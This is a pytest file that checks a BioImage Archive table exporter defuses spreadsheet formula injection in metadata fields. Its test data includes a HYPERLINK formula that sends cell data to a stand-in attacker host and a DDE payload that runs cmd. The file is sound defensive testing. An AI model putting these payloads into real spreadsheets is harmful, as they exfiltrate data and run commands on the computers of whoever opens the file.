"""BioImage Archive tables: every cell a spreadsheet would run as a formula is neutralised."""

from __future__ import annotations

import csv
import io

import pytest

from core.records import MetadataRecord, Sourced
from targets.bia import _file_list, pagetab

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?d="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def _record(**values: object) -> MetadataRecord:
    return MetadataRecord(
        fields={k: Sourced(value=v, source="curator:x") for k, v in values.items()},
        ome_xml="<OME/>",
        ome_xml_origin="generated",
    )


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text), delimiter="\t") for c in row]


@pytest.mark.parametrize("bad", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_formulas_are_neutralised_in_both_tables(bad: str) -> None:
    record = _record(
        **{
            "study.title": bad,
            "study.keywords": [bad, "paxillin"],
            "study.authors[0].name": bad,
            "study.authors[0].affiliation": bad,
            "specimen.sample_preparation_protocol": bad,
            "channels[0].name": bad,
            "pixels.size_x": 80,
        }
    )
    for text in (pagetab(record, "fw-1", "file_list.tsv"), _file_list(record, "fw-1")):
        cells = _cells(text)
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert any(c.startswith("'") and bad.strip() in c for c in cells)
    assert "\"'" + bad.replace('"', '""') + '"' in _file_list(record, "fw-1")


def test_numbers_stay_numbers() -> None:
    """A negative number is left as it is: a spreadsheet reads it as a number, runs nothing."""
    from targets.tabular import safe_cell

    assert [safe_cell(v) for v in ("-0.5", "-12", "-1.5e-3", -3, 2.5)] == [
        "-0.5",
        "-12",
        "-1.5e-3",
        "-3",
        "2.5",
    ]
    assert safe_cell("-1-1") == '"\'-1-1"'
    assert safe_cell("a\tb") == '"a\tb"'
    assert safe_cell(["a", "b"]) == "a, b"
